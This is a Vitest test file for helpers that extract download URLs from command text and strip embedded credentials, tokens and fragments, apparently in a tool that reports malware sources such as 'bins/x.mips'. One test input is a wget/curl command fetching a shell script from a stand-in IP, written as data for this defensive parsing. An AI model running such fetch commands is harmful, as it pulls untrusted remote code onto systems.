import { describe, expect, it } from 'vitest'
import { sourcesIn } from './commands.ts'
import { publicHost, publicUrl } from './public-url.ts'

describe('a URL for others', () => {
  it.each([
    ['http://203.0.113.9/bins/x.mips', 'http://203.0.113.9/bins/x.mips'],
    ['http://admin:hunter2@203.0.113.9/x?token=SECRET', 'http://203.0.113.9/x'],
    ['http://a@b:hunter2@203.0.113.9:8081/x#SECRET', 'http://203.0.113.9:8081/x'],
    ['ftp://u:hunter2@[2001:db8::1]:2121/x', 'ftp://[2001:db8::1]:2121/x'],
    ['http://203.0.113.9:80/x', 'http://203.0.113.9/x'],
    ['http://203.0.113.9?hunter2', 'http://203.0.113.9'],
    ['tftp://203.0.113.9/x', 'tftp://203.0.113.9/x'],
    ['', ''],
  ])('%s', (url, told) => {
    expect(publicUrl(url)).toBe(told)
  })

  it('has a host without a user', () => {
    expect([publicHost('bob:hunter2@203.0.113.9'), publicHost('203.0.113.9:80')]).toEqual(['203.0.113.9', '203.0.113.9:80'])
  })
})

it('what commands name is told without what is secret, nor what stands behind it', () => {
  const text = 'wget http://admin:hunter2@203.0.113.9/x.sh?t=SECRET\u0000password=hunter2; curl 203.0.113.10/y?t=SECRET'
  expect(sourcesIn(text).map(({ value }) => value)).toEqual(['http://203.0.113.9/x.sh', 'http://203.0.113.10/y'])
})
